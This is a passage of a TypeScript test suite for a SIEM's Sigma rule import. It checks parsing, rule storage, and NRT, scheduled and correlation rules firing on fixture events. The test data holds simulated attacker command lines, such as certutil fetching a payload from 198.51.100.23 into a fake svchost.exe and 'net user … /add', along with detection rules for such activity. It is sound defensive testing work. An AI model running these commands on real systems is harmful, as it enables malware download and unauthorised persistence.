import { readFileSync } from "node:fs";
import type { DataSource } from "typeorm";
import {
  ImportSigmaRulesDocument,
  IngestEventsDocument,
  SigmaRuleDocument,
  type ImportSigmaRulesMutation,
  type SigmaImportOptions,
} from "./__generated__/graphql";
import { inTenant, Role } from "../subgraphs/common/src";
import { normalize, parseNdjson } from "../subgraphs/siem/src/modules/connectors/normalizers";
import type { ConnectorKind } from "../subgraphs/siem/src/modules/events/event.model";
import { runScheduledRule } from "../subgraphs/siem/src/modules/rules/rule-runner";
import { storedRuleFromRow } from "../subgraphs/siem/src/modules/rules/rules.service";
import { SIGMA_SEMANTICS } from "./fixtures/siem/sigma-rules";
import { startTestPlatform, type TestPlatform } from "./utils/platform";
import { ingestFixture, ok } from "./utils/seed";

type Result = ImportSigmaRulesMutation["importSigmaRules"]["results"][number];

const KINDS: ConnectorKind[] = [
  "AZURE_ACTIVITY",
  "ENTRA_SIGNIN",
  "AWS_CLOUDTRAIL",
  "SYSLOG_CEF",
  "M365_AUDIT",
  "OCSF",
  "OKTA_SYSTEM_LOG",
  "GCP_AUDIT",
  "WINDOWS_SECURITY",
];

/** The source event ids of the fixture records of `kind` that `means` selects. */
function fixtureIds(kind: ConnectorKind, means: (raw: unknown) => boolean): string[] {
  return parseNdjson(readFileSync(`test/fixtures/siem/${kind}.ndjson`, "utf8"))
    .flatMap((line) => ("value" in line && means(line.value) ? [normalize(kind, line.value)] : []))
    .map((event) => ("source_event_id" in event ? event.source_event_id : "rejected"))
    .sort();
}

/** A value at a path of a raw record. */
const get = (record: unknown, ...path: string[]): unknown =>
  path.reduce<unknown>(
    (value, key) =>
      value !== null && typeof value === "object" ? (value as Record<string, unknown>)[key] : undefined,
    record,
  );

/** A Sigma rule of password sign-in failures at Entra ID, which the correlations across log sources refer to. */
const FAILED_PASSWORD = `title: Password sign-in failure
id: 0c1d2e3f-4a5b-4c6d-8e7f-9a0b1c2d3e4f
name: failed_password
logsource:
  product: azure
  service: signinlogs
detection:
  selection:
    ResultType: 50126
  condition: selection
level: low
`;
/** Its search within its source: a correlation's named filter, or an alias's case. */
const FAILED_PASSWORD_SEARCH = {
  all: [
    { field: "connector", op: "eq", value: "ENTRA_SIGNIN" },
    { field: "attributes.error_code", op: "eq", value: 50126 },
  ],
};

/** All the realistic rules of the fixtures' semantics table, as one multi-document YAML. */
const ALL_RULES = SIGMA_SEMANTICS.map((c) => c.yaml).join("---\n");

/**
 * Importing Sigma rules through the gateway: the per-rule report, what is stored, idempotent re-import by the
 * Sigma id, and — the point of it all — that an imported rule fires on exactly the events the Sigma rule
 * describes, as an NRT rule on ingest and as a scheduled rule over its period. Every test has a tenant of its own.
 */
describe("Sigma import", () => {
  let platform: TestPlatform;
  let ds: DataSource;

  beforeAll(async () => {
    platform = await startTestPlatform();
    ds = await platform.connect("siem");
  });
  afterAll(async () => {
    await platform?.stop();
  });

  const importSigma = async (tenant: string, yaml: string, options?: SigmaImportOptions) =>
    platform.request(ImportSigmaRulesDocument, { yaml, options }, await platform.token([Role.ADMIN], tenant));
  const imported = async (tenant: string, yaml: string, options?: SigmaImportOptions) =>
    ok(await importSigma(tenant, yaml, options)).importSigmaRules;

  const ingestAll = async (tenant: string) => {
    const ingestor = await platform.token([Role.INGESTOR], tenant);
    for (const kind of KINDS) {
      const res = await ingestFixture(platform, ingestor, kind);
      expect(res.status).toBe(200);
    }
  };

  /** Ingests records of one connector through the gateway, every one of them accepted. */
  const ingestRecords = async (tenant: string, connector: ConnectorKind, records: object[]) => {
    const result = ok(
      await platform.request(
        IngestEventsDocument,
        { connector, records },
        await platform.token([Role.INGESTOR], tenant),
      ),
    ).ingestEvents;
    expect(result.acceptedCount).toBe(records.length);
  };

  /** The source event ids of the events in a rule's alerts. */
  const alertedIds = (tenant: string, ruleId: string) =>
    inTenant(ds, tenant, async (m) =>
      (
        (await m.query(
          `SELECT e.source_event_id FROM alerts a CROSS JOIN LATERAL unnest(a.evidence_event_ids) AS ev(id)
           JOIN events e ON e.id = ev.id WHERE a.rule_id = $1 ORDER BY 1`,
          [ruleId],
        )) as Array<{ source_event_id: string }>
      ).map((r) => r.source_event_id),
    );

  const ruleCount = (tenant: string) =>
    inTenant(ds, tenant, async (m) => {
      const [{ n }] = await m.query(`SELECT count(*)::int AS n FROM analytics_rules`);
      return n as number;
    });

  const run = (tenant: string, ruleId: string, end: Date) =>
    inTenant(ds, tenant, async (m) => {
      const [row] = await m.query(`SELECT * FROM analytics_rules WHERE id = $1 FOR UPDATE`, [ruleId]);
      return runScheduledRule(m, tenant, storedRuleFromRow(row), end);
    });

  it("imports the good rules of a multi-document YAML and reports each bad one with its reason; new rules start disabled", async () => {
    const tenant = "sigma-report";
    const bad = [
      "title: Whoami\nid: 0d5a8e1f-0000-4000-8000-00000000000a\nlogsource:\n  category: process_creation\n  product: linux\ndetection:\n  selection:\n    Image|endswith: '/whoami'\n  condition: selection\n",
      "title: [broken\n",
      "title: Many failed sign-ins\nid: 0d5a8e1f-0000-4000-8000-00000000000b\ncorrelation:\n  type: temporal\n  rules: [x]\n  timespan: 1h\n",
      "title: No condition\nid: 0d5a8e1f-0000-4000-8000-00000000000c\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  selection:\n    eventName: StopLogging\n",
      "title: Encoded\nid: 0d5a8e1f-0000-4000-8000-00000000000d\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  selection:\n    userAgent|base64: curl\n    tlsDetails.cipherSuite: x\n  condition: selection\n",
    ];
    const yaml = [SIGMA_SEMANTICS[0].yaml, ...bad, SIGMA_SEMANTICS[3].yaml].join("---\n");
    const payload = await imported(tenant, yaml);
    expect([
      payload.createdCount,
      payload.updatedCount,
      payload.unchangedCount,
      payload.rejectedCount,
    ]).toEqual([2, 0, 0, 5]);
    expect(
      payload.results.map((r) => [
        r.document,
        r.sigmaId,
        r.status,
        r.problems.map((p) => `${p.code} ${p.path}`),
      ]),
    ).toEqual([
      [1, "4db60cc0-36fb-42b7-9b58-a5b53019fb74", "CREATED", []],
      [2, "0d5a8e1f-0000-4000-8000-00000000000a", "REJECTED", ["UNSUPPORTED_LOGSOURCE logsource"]],
      [3, null, "REJECTED", ["INVALID_YAML "]],
      [
        4,
        "0d5a8e1f-0000-4000-8000-00000000000b",
        "REJECTED",
        ["INVALID_FIELD correlation.rules", "INVALID_REFERENCE correlation.rules[0]"],
      ],
      [5, "0d5a8e1f-0000-4000-8000-00000000000c", "REJECTED", ["MISSING_FIELD detection.condition"]],
      [
        6,
        "0d5a8e1f-0000-4000-8000-00000000000d",
        "REJECTED",
        [
          "UNSUPPORTED_MODIFIER detection.selection.userAgent|base64",
          "UNSUPPORTED_FIELD detection.selection.tlsDetails.cipherSuite",
        ],
      ],
      [7, "459a2970-bb84-4e6a-a32e-ff0fbd99448d", "CREATED", []],
    ]);
    const trail = payload.results[0];
    expect(trail.ruleId).toBe(trail.rule!.id);
    expect(trail.rule).toMatchObject({
      kind: "SCHEDULED",
      enabled: false,
      version: 1,
      displayName: "AWS CloudTrail Important Change",
      severity: "MEDIUM",
      tactics: ["DefenseEvasion"],
      techniques: ["T1562.001"],
      queryFrequency: "PT5M",
      queryPeriod: "PT5M",
      sigma: { id: "4db60cc0-36fb-42b7-9b58-a5b53019fb74", yaml: SIGMA_SEMANTICS[0].yaml.trim() },
    });
    expect(trail.rule!.definition.filter).toEqual({
      all: [
        { field: "connector", op: "eq", value: "AWS_CLOUDTRAIL" },
        { field: "attributes.event_source", op: "eq", value: "cloudtrail.amazonaws.com" },
        { field: "attributes.event_name", op: "in", value: ["StopLogging", "UpdateTrail", "DeleteTrail"] },
      ],
    });
    // Only the good rules are stored; the rule reads back with where it came from.
    expect(await ruleCount(tenant)).toBe(2);
    const read = ok(
      await platform.request(
        SigmaRuleDocument,
        { id: trail.ruleId! },
        await platform.token([Role.READER], tenant),
      ),
    ).analyticsRule;
    expect(read).toEqual({
      id: trail.ruleId,
      enabled: false,
      version: 1,
      sigma: { id: "4db60cc0-36fb-42b7-9b58-a5b53019fb74", yaml: SIGMA_SEMANTICS[0].yaml.trim() },
    });
    const [audit] = await inTenant(ds, tenant, (m) =>
      m.query(`SELECT actor, details FROM audit_log WHERE action = 'rules.sigma.imported'`),
    );
    expect(audit.details).toEqual({ created: 2, updated: 0, unchanged: 0, rejected: 5, referenced: 0 });
  });

  it("fires each imported NRT rule on exactly the fixture events its Sigma rule describes", async () => {
    const tenant = "sigma-nrt";
    const payload = await imported(tenant, ALL_RULES, { kind: "NRT", enabled: true });
    expect(payload.createdCount).toBe(SIGMA_SEMANTICS.length);
    expect(payload.results.every((r) => r.rule!.kind === "NRT" && r.rule!.enabled)).toBe(true);
    await ingestAll(tenant);
    for (const [i, c] of SIGMA_SEMANTICS.entries()) {
      const expected = fixtureIds(c.kind, c.means);
      expect([c.name, expected.length]).toEqual([c.name, c.count]);
      expect([c.name, await alertedIds(tenant, payload.results[i].ruleId!)]).toEqual([c.name, expected]);
    }
  });

  it("fires each imported scheduled rule on exactly the same events over its period", async () => {
    const tenant = "sigma-scheduled";
    const payload = await imported(tenant, ALL_RULES, {
      enabled: true,
      queryFrequency: "P1D",
      queryPeriod: "P1D",
    });
    expect(payload.results.every((r) => r.rule!.kind === "SCHEDULED" && r.rule!.queryPeriod === "P1D")).toBe(
      true,
    );
    await ingestAll(tenant);
    for (const [i, c] of SIGMA_SEMANTICS.entries()) {
      const ruleId = payload.results[i].ruleId!;
      // Nothing fires on ingest: a scheduled rule waits for its run.
      expect(await alertedIds(tenant, ruleId)).toEqual([]);
      const result = await run(tenant, ruleId, new Date("2026-11-21T00:00:00Z"));
      expect([c.name, result]).toEqual([c.name, { alerts: c.count, results: c.count }]);
      expect([c.name, await alertedIds(tenant, ruleId)]).toEqual([c.name, fixtureIds(c.kind, c.means)]);
    }
  });

  it("imports Windows process_creation rules that alert on the 4688 records ingested through the gateway, with the host, account and process", async () => {
    const tenant = "sigma-process-creation";
    const cases = SIGMA_SEMANTICS.filter((c) => c.name.startsWith("Windows process creation:"));
    expect(cases).toHaveLength(5);
    const yaml = cases.map((c) => c.yaml).join("---\n");
    const payload = await imported(tenant, yaml, { kind: "NRT", enabled: true });
    expect(payload.results.map((r) => [r.title, r.status, r.problems, r.notes])).toEqual([
      ["Whoami Utility Execution", "CREATED", [], []],
      ["Run Whoami as SYSTEM", "CREATED", [], []],
      ["Suspicious Encoded PowerShell Command Line", "CREATED", [], []],
      ["Suspicious Download Via Certutil.EXE", "CREATED", [], []],
      // Its OriginalFileName alternative to Image: a 4688 record has no such field, so it never matches.
      [
        "New User Created Via Net.EXE",
        "CREATED",
        [],
        [
          "OriginalFileName is not kept for windows/process_creation (4688) events: treated as absent, so the alternatives that need it never match.",
        ],
      ],
    ]);
    // Over 4688 records by Image; over Sysmon's event 1 (its own part of the filter) by either.
    const [security, sysmon] = (payload.results[4].rule!.definition.filter as { any: unknown[] }).any;
    const eventData = (op: string, field: string, value: string) => ({
      field: `attributes.event_data.${field}`,
      op,
      value,
    });
    expect(sysmon).toEqual({
      all: [
        { field: "connector", op: "eq", value: "WINDOWS_SYSMON" },
        { field: "operation", op: "eq", value: "1" },
        {
          any: [
            eventData("endsWith", "Image", "\\net.exe"),
            eventData("endsWith", "Image", "\\net1.exe"),
            eventData("eq", "OriginalFileName", "net.exe"),
            eventData("eq", "OriginalFileName", "net1.exe"),
          ],
        },
        eventData("contains", "CommandLine", "user"),
        eventData("contains", "CommandLine", "add"),
      ],
    });
    expect(security).toEqual({
      all: [
        { field: "connector", op: "eq", value: "WINDOWS_SECURITY" },
        { field: "class_uid", op: "eq", value: 1007 },
        {
          any: [
            { field: "attributes.event_data.NewProcessName", op: "endsWith", value: "\\net.exe" },
            { field: "attributes.event_data.NewProcessName", op: "endsWith", value: "\\net1.exe" },
          ],
        },
        { field: "attributes.event_data.CommandLine", op: "contains", value: "user" },
        { field: "attributes.event_data.CommandLine", op: "contains", value: "add" },
      ],
    });
    const ingestor = await platform.token([Role.INGESTOR], tenant);
    expect((await ingestFixture(platform, ingestor, "WINDOWS_SECURITY")).status).toBe(200);

    const alerts = await inTenant(ds, tenant, (m) =>
      m.query(`SELECT title, tactics, techniques, entities FROM alerts ORDER BY start_time, title`),
    );
    const jump = "vm-jump-01.corp.contoso.com";
    const certutil =
      "certutil.exe  -urlcache -split -f http://198.51.100.23/stage3.bin C:\\Users\\Public\\Libraries\\svchost.exe";
    expect(alerts).toEqual([
      expect.objectContaining({ title: "Suspicious Encoded PowerShell Command Line" }),
      expect.objectContaining({
        title: "Whoami Utility Execution",
        tactics: ["Discovery"],
        techniques: ["T1033"],
        entities: [
          { type: "HOST", value: jump },
          { type: "ACCOUNT", value: "CORP\\svc-sql" },
          { type: "PROCESS", value: "whoami  /all" },
          { type: "PROCESS", value: "whoami.exe" },
        ],
      }),
      // net.exe by its Image; the same account's `net localgroup … /add` (08:46:40) adds no user.
      {
        title: "New User Created Via Net.EXE",
        tactics: ["Persistence"],
        techniques: ["T1136.001"],
        entities: [
          { type: "HOST", value: jump },
          { type: "ACCOUNT", value: "CORP\\svc-sql" },
          { type: "PROCESS", value: "net user support_tmp Winter2026! /add" },
          { type: "PROCESS", value: "net.exe" },
        ],
      },
      {
        title: "Suspicious Download Via Certutil.EXE",
        tactics: ["DefenseEvasion"],
        techniques: ["T1027"],
        entities: [
          { type: "HOST", value: jump },
          { type: "ACCOUNT", value: "CORP\\svc-sql" },
          { type: "PROCESS", value: certutil },
          { type: "PROCESS", value: "certutil.exe" },
        ],
      },
      // The Configuration Manager client's certutil download (09:05) is left out by the rule's filter.
      {
        title: "Run Whoami as SYSTEM",
        tactics: ["PrivilegeEscalation"],
        techniques: ["T1033"],
        entities: [
          { type: "HOST", value: "WS-FIN-042.corp.contoso.com" },
          { type: "ACCOUNT", value: "CORP\\WS-FIN-042$" },
          { type: "PROCESS", value: "whoami" },
          { type: "PROCESS", value: "whoami.exe" },
        ],
      },
      expect.objectContaining({ title: "Whoami Utility Execution" }),
    ]);
  });

  it("runs a process_creation aggregation by Image over 4688 and Sysmon records together, grouping one image from both connectors", async () => {
    const tenant = "sigma-process-count-sources";
    const yaml = `title: Certutil downloads repeated on one host
id: 8192a3b4-c5d6-4e7f-8091-a2b3c4d5e6f7
logsource:
  category: process_creation
  product: windows
detection:
  selection:
    CommandLine|contains: '-urlcache'
  timeframe: 1h
  condition: selection | count() by Computer, Image > 3
level: medium
`;
    const [result] = (await imported(tenant, yaml, { enabled: true })).results;
    expect([result.status, result.problems]).toEqual(["CREATED", []]);
    const rule = result.rule!;
    // Image is NewProcessName in a 4688 record and Image in Sysmon's event 1: an alias reads each one's own.
    expect(rule.definition.summarize).toEqual({
      by: ["device", "Image"],
      aggregate: "COUNT",
      field: null,
      filters: null,
      aliases: [
        {
          name: "Image",
          cases: [
            {
              when: {
                all: [
                  { field: "connector", op: "eq", value: "WINDOWS_SECURITY" },
                  { field: "class_uid", op: "eq", value: 1007 },
                ],
              },
              field: "attributes.event_data.NewProcessName",
            },
            {
              when: {
                all: [
                  { field: "connector", op: "eq", value: "WINDOWS_SYSMON" },
                  { field: "operation", op: "eq", value: "1" },
                ],
              },
              field: "attributes.event_data.Image",
            },
          ],
        },
      ],
    });

    const host = "WS-7.corp.contoso.com";
    const certutil = "C:\\Windows\\System32\\certutil.exe";
    const powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    const cmd = (image: string) =>
      `${image} -urlcache -split -f http://198.51.100.23/stage.bin C:\\Users\\Public\\stage.bin`;
    const system = (id: number, minute: number) => ({
      EventID: id,
      TimeCreated: { SystemTime: `2026-11-20T09:${String(minute).padStart(2, "0")}:00.000Z` },
      Computer: host,
    });
    // The 4688 fixture's certutil download on the jump host, as other runs on this host.
    const [created] = parseNdjson(readFileSync("test/fixtures/siem/WINDOWS_SECURITY.ndjson", "utf8")).flatMap(
      (line) =>
        "value" in line && get(line.value, "EventData", "NewProcessName") === certutil
          ? [line.value as { EventData: object }]
          : [],
    );
    const security = (record: number, minute: number, image: string) => ({
      ...created,
      ...system(4688, minute),
      EventRecordID: record,
      EventData: { ...created.EventData, NewProcessName: image, CommandLine: cmd(image) },
    });
    const sysmon = (record: number, minute: number, image: string) => ({
      ...system(1, minute),
      EventRecordID: record,
      Channel: "Microsoft-Windows-Sysmon/Operational",
      Provider: { Name: "Microsoft-Windows-Sysmon" },
      EventData: {
        ProcessId: "8044",
        Image: image,
        CommandLine: cmd(image),
        User: "CORP\\adele.vance",
        ParentImage: "C:\\Windows\\explorer.exe",
      },
    });
    const ingest = (connector: ConnectorKind, records: object[]) => ingestRecords(tenant, connector, records);
    const at = new Date("2026-11-20T10:00:00Z");
    // Two certutil and two PowerShell downloads in the Security log: neither crosses the threshold alone.
    await ingest("WINDOWS_SECURITY", [
      security(101, 1, certutil),
      security(102, 2, certutil),
      security(103, 3, powershell),
      security(104, 4, powershell),
    ]);
    expect(await run(tenant, rule.id, at)).toEqual({ alerts: 0, results: 0 });
    // Sysmon's event 1 of two more certutil runs makes four of it; one PowerShell run makes three of that.
    await ingest("WINDOWS_SYSMON", [
      sysmon(201, 10, certutil),
      sysmon(202, 11, certutil),
      sysmon(203, 12, powershell),
    ]);
    expect(await run(tenant, rule.id, at)).toEqual({ alerts: 1, results: 1 });
    const alerts = await inTenant(ds, tenant, (m) =>
      m.query(`SELECT title, entities FROM alerts WHERE rule_id = $1`, [rule.id]),
    );
    expect(alerts).toEqual([
      {
        title: `Certutil downloads repeated on one host — ${host}, ${certutil}`,
        entities: [{ type: "HOST", value: host }],
      },
    ]);
    const evidence = await inTenant(ds, tenant, (m) =>
      m.query(
        `SELECT e.connector, e.source_event_id FROM alerts a CROSS JOIN LATERAL unnest(a.evidence_event_ids) AS ev(id)
         JOIN events e ON e.id = ev.id WHERE a.rule_id = $1 ORDER BY e.time`,
        [rule.id],
      ),
    );
    const id = (record: number) => `${host.toLowerCase()}:${record}`;
    expect(evidence).toEqual([
      { connector: "WINDOWS_SECURITY", source_event_id: id(101) },
      { connector: "WINDOWS_SECURITY", source_event_id: id(102) },
      { connector: "WINDOWS_SYSMON", source_event_id: id(201) },
      { connector: "WINDOWS_SYSMON", source_event_id: id(202) },
    ]);
  });

  it("runs Sigma aggregations as summarised rules: MFA failures for one account from many IP addresses, password spray from one address", async () => {
    const tenant = "sigma-aggregation";
    const yaml = [
      `title: MFA failures for one account from many IP addresses
id: 9a0c4b8e-2f1d-4e3a-8b7c-6d5e4f3a2b1c
tags: [attack.credential_access, attack.t1621]
logsource:
  product: azure
  service: signinlogs
detection:
  selection:
    ResultType: [50074, 500121]
  timeframe: 1h
  condition: selection | count(IPAddress) by UserPrincipalName > 2
level: high
`,
      `title: Failed password sign-ins from one address
id: 1b2c3d4e-5f60-4718-9a2b-3c4d5e6f7a8b
tags: [attack.credential_access, attack.t1110.003]
logsource:
  product: azure
  service: signinlogs
detection:
  selection:
    ResultType: 50126
  timeframe: 1h
  condition: selection | count() by IPAddress >= 10
level: medium
`,
    ].join("---\n");
    const [mfa, spray] = (await imported(tenant, yaml, { enabled: true })).results;
    expect(mfa.rule!.definition).toMatchObject({
      summarize: { by: ["attributes.user.email_addr"], aggregate: "DISTINCT_COUNT", field: "src_ip" },
      trigger: { operator: "GT", threshold: 2 },
      entityMappings: [{ entityType: "ACCOUNT", field: "attributes.user.email_addr" }],
    });
    expect([spray.rule!.queryFrequency, spray.rule!.queryPeriod]).toEqual(["PT1H", "PT1H"]);
    await ingestAll(tenant);
    // One account failing MFA from three addresses in the hour (the fixtures have one MFA failure, from one).
    const signIn = (n: number, ip: string) => ({
      id: `sigma-mfa-${n}`,
      createdDateTime: `2026-11-20T09:${10 + n * 5}:00Z`,
      userPrincipalName: "diego.siciliani@contoso.com",
      appDisplayName: "OfficeHome",
      ipAddress: ip,
      status: { errorCode: 50074, failureReason: "Strong Authentication is required." },
    });
    const extra = ok(
      await platform.request(
        IngestEventsDocument,
        {
          connector: "ENTRA_SIGNIN",
          records: [signIn(1, "198.51.100.1"), signIn(2, "198.51.100.2"), signIn(3, "198.51.100.3")],
        },
        await platform.token([Role.INGESTOR], tenant),
      ),
    ).ingestEvents;
    expect(extra.acceptedCount).toBe(3);

    const end = new Date("2026-11-20T10:00:00Z");
    expect(await run(tenant, mfa.ruleId!, end)).toEqual({ alerts: 1, results: 1 });
    expect(await alertedIds(tenant, mfa.ruleId!)).toEqual(["sigma-mfa-1", "sigma-mfa-2", "sigma-mfa-3"]);

    const failures = fixtureIds("ENTRA_SIGNIN", (r) => {
      const rec = r as { status?: { errorCode?: number }; createdDateTime?: string; ipAddress?: string };
      return rec.status?.errorCode === 50126 && (rec.createdDateTime ?? "") >= "2026-11-20T09:00:00Z";
    });
    expect(failures.length).toBeGreaterThanOrEqual(10);
    expect(await run(tenant, spray.ruleId!, end)).toEqual({ alerts: 1, results: 1 });
    expect(await alertedIds(tenant, spray.ruleId!)).toEqual(failures);
    const entities = await inTenant(ds, tenant, (m) =>
      m.query(`SELECT title, entities FROM alerts WHERE rule_id = ANY($1::uuid[]) ORDER BY title`, [
        [mfa.ruleId, spray.ruleId],
      ]),
    );
    expect(entities.map((a: { title: string; entities: unknown }) => [a.title, a.entities])).toEqual([
      ["Failed password sign-ins from one address — 203.0.113.77", [{ type: "IP", value: "203.0.113.77" }]],
      [
        "MFA failures for one account from many IP addresses — diego.siciliani@contoso.com",
        [{ type: "ACCOUNT", value: "diego.siciliani@contoso.com" }],
      ],
    ]);
  });

  it("imports event_count and value_count correlations as summarised scheduled rules that fire on ingested events; the rule they refer to is not stored on its own", async () => {
    const tenant = "sigma-correlation";
    const failed = `title: Failed password sign-in
id: 3c1d2e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f
name: failed_password_signin
logsource:
  product: azure
  service: signinlogs
detection:
  selection:
    ResultType: 50126
  condition: selection
level: low
`;
    const correlations = `title: Many failed sign-ins for one account
id: 4d2e3f50-6b7c-4d8e-9fa0-1b2c3d4e5f60
correlation:
  type: event_count
  rules:
    - failed_password_signin
  group-by:
    - UserPrincipalName
  timespan: 1h
  condition:
    gte: 3
level: high
---
title: Failed sign-ins for one account from several addresses
id: 5e3f4061-7c8d-4e9f-a0b1-2c3d4e5f6071
correlation:
  type: value_count
  rules:
    - 3C1D2E4F-5A6B-4C7D-8E9F-0A1B2C3D4E5F
  group-by:
    - UserPrincipalName
  timespan: 1h
  condition:
    field: IPAddress
    gt: 1
level: medium
`;
    const yaml = `${failed}---\n${correlations}`;
    const payload = await imported(tenant, yaml, { enabled: true });
    expect([
      payload.createdCount,
      payload.updatedCount,
      payload.unchangedCount,
      payload.rejectedCount,
      payload.referencedCount,
    ]).toEqual([2, 0, 0, 0, 1]);
    const [base, count, distinct] = payload.results;
    expect([base.status, base.ruleId, base.rule, base.problems]).toEqual(["REFERENCED", null, null, []]);
    expect(base.notes).toEqual([
      "Not imported on its own: the correlation rules Many failed sign-ins for one account, Failed sign-ins for one account from several addresses of this import refer to it, and Sigma does not generate such rules unless the correlation says generate: true.",
    ]);
    expect(count.rule).toMatchObject({
      kind: "SCHEDULED",
      enabled: true,
      severity: "HIGH",
      queryFrequency: "PT1H",
      queryPeriod: "PT1H",
      definition: {
        filter: {
          all: [
            { field: "connector", op: "eq", value: "ENTRA_SIGNIN" },
            { field: "attributes.error_code", op: "eq", value: 50126 },
          ],
        },
        summarize: { by: ["attributes.user.email_addr"], aggregate: "COUNT", field: null },
        trigger: { operator: "GTE", threshold: 3 },
        entityMappings: [{ entityType: "ACCOUNT", field: "attributes.user.email_addr" }],
      },
      sigma: { id: "4d2e3f50-6b7c-4d8e-9fa0-1b2c3d4e5f60" },
    });
    expect(count.rule!.sigma!.yaml).toContain("name: failed_password_signin");
    expect(distinct.rule!.definition.summarize).toEqual({
      by: ["attributes.user.email_addr"],
      aggregate: "DISTINCT_COUNT",
      field: "src_ip",
      filters: null,
      aliases: null,
    });
    expect(await ruleCount(tenant)).toBe(2);

    // Megan fails three times from two addresses within the hour, Alex twice, and Megan's success is no failure.
    const signIn = (n: number, user: string, ip: string, errorCode: number) => ({
      id: `sigma-corr-${n}`,
      createdDateTime: `2026-11-20T09:${String(10 + n * 5).padStart(2, "0")}:00Z`,
      userPrincipalName: user,
      appDisplayName: "OfficeHome",
      ipAddress: ip,
      status: { errorCode },
    });
    const megan = "megan.bowen@contoso.com";
    const alex = "alex.wilber@contoso.com";
    const ingested = ok(
      await platform.request(
        IngestEventsDocument,
        {
          connector: "ENTRA_SIGNIN",
          records: [
            signIn(1, megan, "198.51.100.1", 50126),
            signIn(2, alex, "198.51.100.9", 50126),
            signIn(3, megan, "198.51.100.1", 50126),
            signIn(4, megan, "198.51.100.2", 50126),
            signIn(5, alex, "198.51.100.9", 50126),
            signIn(6, megan, "198.51.100.3", 0),
          ],
        },
        await platform.token([Role.INGESTOR], tenant),
      ),
    ).ingestEvents;
    expect(ingested.acceptedCount).toBe(6);

    const end = new Date("2026-11-20T10:00:00Z");
    expect(await run(tenant, count.ruleId!, end)).toEqual({ alerts: 1, results: 1 });
    expect(await alertedIds(tenant, count.ruleId!)).toEqual(["sigma-corr-1", "sigma-corr-3", "sigma-corr-4"]);
    expect(await run(tenant, distinct.ruleId!, end)).toEqual({ alerts: 1, results: 1 });
    expect(await alertedIds(tenant, distinct.ruleId!)).toEqual([
      "sigma-corr-1",
      "sigma-corr-3",
      "sigma-corr-4",
    ]);
    const alerts = await inTenant(ds, tenant, (m) =>
      m.query(`SELECT title, entities FROM alerts WHERE rule_id = ANY($1::uuid[]) ORDER BY title`, [
        [count.ruleId, distinct.ruleId],
      ]),
    );
    expect(alerts.map((a: { title: string; entities: unknown }) => [a.title, a.entities])).toEqual([
      [
        `Failed sign-ins for one account from several addresses — ${megan}`,
        [{ type: "ACCOUNT", value: megan }],
      ],
      [`Many failed sign-ins for one account — ${megan}`, [{ type: "ACCOUNT", value: megan }]],
    ]);
    // The next hour has none of these events: nothing fires.
    expect(await run(tenant, count.ruleId!, new Date("2026-11-20T11:00:00Z"))).toEqual({
      alerts: 0,
      results: 0,
    });

    // Imported again: unchanged; with the rule they refer to changed, both correlations get a new version.
    const again = await imported(tenant, yaml);
    expect(again.results.map((r) => [r.status, r.ruleId, r.rule?.version ?? null])).toEqual([
      ["REFERENCED", null, null],
      ["UNCHANGED", count.ruleId, 1],
      ["UNCHANGED", distinct.ruleId, 1],
    ]);
    const revised = await imported(tenant, yaml.replace("ResultType: 50126", "ResultType: [50126, 50053]"));
    expect(
      revised.results.map((r) => [r.status, r.ruleId, r.rule?.version ?? null, r.rule?.enabled ?? null]),
    ).toEqual([
      ["REFERENCED", null, null, null],
      ["UPDATED", count.ruleId, 2, true],
      ["UPDATED", distinct.ruleId, 2, true],
    ]);
    expect(revised.results[1].rule!.definition.filter).toEqual({
      all: [
        { field: "connector", op: "eq", value: "ENTRA_SIGNIN" },
        { field: "attributes.error_code", op: "in", value: [50126, 50053] },
      ],
    });
    expect(await ruleCount(tenant)).toBe(2);

    // A temporal correlation of one rule is rejected with its reason; nothing more is stored.
    const temporal = await imported(
      tenant,
      `${failed}---\n${correlations.split("---\n")[0].replace("event_count", "temporal").replace("4d2e3f50", "4d2e3f51")}`,
    );
    expect(temporal.results.map((r) => [r.status, r.problems.map((p) => `${p.code} ${p.path}`)])).toEqual([
      ["REFERENCED", []],
      ["REJECTED", ["INVALID_FIELD correlation.rules"]],
    ]);
    expect(await ruleCount(tenant)).toBe(2);
  });

  it("imports temporal and temporal_ordered correlations that fire for an account whose rules all matched (in order), not where one is missing or out of order, never on another tenant's events", async () => {
    const tenant = "sigma-temporal";
    const other = "sigma-temporal-other";
    const rule = (n: number, name: string, title: string, resultType: number) => `title: ${title}
id: 6a7b8c9d-0000-4000-8000-00000000000${n}
name: ${name}
logsource:
  product: azure
  service: signinlogs
detection:
  selection:
    ResultType: ${resultType}
  condition: selection
level: low
`;
    const correlation = (n: number, type: string, title: string) => `title: ${title}
id: 6a7b8c9d-0000-4000-8000-00000000000${n}
correlation:
  type: ${type}
  rules:
    - failed_password
    - signed_in
  group-by:
    - UserPrincipalName
  timespan: 1h
level: high
`;
    const yaml = [
      rule(1, "failed_password", "Failed password sign-in", 50126),
      rule(2, "signed_in", "Successful sign-in", 0),
      correlation(3, "temporal_ordered", "Failed sign-in followed by a success"),
      correlation(4, "temporal", "Failed and successful sign-ins for one account"),
    ].join("---\n");
    const payload = await imported(tenant, yaml, { enabled: true });
    expect(payload.results.map((r) => [r.status, r.problems])).toEqual([
      ["REFERENCED", []],
      ["REFERENCED", []],
      ["CREATED", []],
      ["CREATED", []],
    ]);
    const [, , ordered, unordered] = payload.results;
    const filters = [
      { name: "failed_password", filter: { field: "attributes.error_code", op: "eq", value: 50126 } },
      { name: "signed_in", filter: { field: "attributes.error_code", op: "eq", value: 0 } },
    ];
    expect(ordered.rule).toMatchObject({
      kind: "SCHEDULED",
      enabled: true,
      queryFrequency: "PT1H",
      queryPeriod: "PT1H",
      definition: {
        filter: {
          all: [
            { field: "connector", op: "eq", value: "ENTRA_SIGNIN" },
            { any: filters.map((f) => f.filter) },
          ],
        },
        summarize: {
          by: ["attributes.user.email_addr"],
          aggregate: "FILTERS_MATCHED_IN_ORDER",
          field: null,
          filters,
        },
        trigger: { operator: "GTE", threshold: 2 },
        entityMappings: [{ entityType: "ACCOUNT", field: "attributes.user.email_addr" }],
      },
    });
    expect(ordered.notes).toContain(
      "In order means each rule's event strictly after the event of the rule before it: events at the same instant are not in order.",
    );
    expect(unordered.rule!.definition.summarize).toMatchObject({ aggregate: "FILTERS_MATCHED", filters });
    // The other tenant has the same rules.
